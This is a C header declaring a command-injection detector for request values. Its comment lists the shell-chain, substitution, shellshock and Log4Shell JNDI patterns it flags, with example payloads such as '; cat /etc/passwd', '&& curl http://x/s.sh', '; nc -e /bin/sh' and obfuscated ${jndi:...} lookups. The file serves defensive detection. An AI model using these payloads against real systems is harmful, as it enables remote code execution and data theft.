/* SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause) */
/*
 * Command injection in request text (a decoded query value, form field,
 * JSON string, header value or path): what only makes sense once the text
 * reaches a shell or a lookup-expanding logger.
 * - shell: a command separator (; | || & && newline) or a substitution
 *   ($( ... ), backticks) followed by a command that is then used the way
 *   an attacker uses it: "; cat /etc/passwd", "|id", "$(whoami)",
 *   "&& curl http://x/s.sh", "; nc -e /bin/sh ...", "; sleep 5", through
 *   the usual evasions (c'a't, w\hoami, ${IFS}, tabs, /bin/ prefixes).
 *   A command word alone ("cat lovers", "ping pong", "rm -rf / explained")
 *   is prose, not injection.
 * - shellshock: a function definition "() {" opening the value.
 * - jndi_lookup: a ${jndi:...} lookup (Log4Shell), also when spelled
 *   through nested lookups (${${lower:j}ndi:...}, ${${::-j}...}).
 * Pure: no allocation, no global state; bounded by CMDI_MAX_INPUT bytes.
 */
#ifndef BT_CMDI_H
#define BT_CMDI_H

#include <stddef.h>

#define CMDI_MAX_INPUT 4096 /* bytes examined per value; the rest is ignored */

/* The rule that matched ("shell_chain", "shell_subst", "shellshock",
 * "jndi_lookup"), or NULL. s need not be NUL-terminated. */
const char *cmdi_rule(const char *s, size_t n);

/* The same without the shell rules: for free text (an LLM prompt) where
 * shell syntax is a topic, not an attack. */
const char *cmdi_lookup_rule(const char *s, size_t n);

#endif
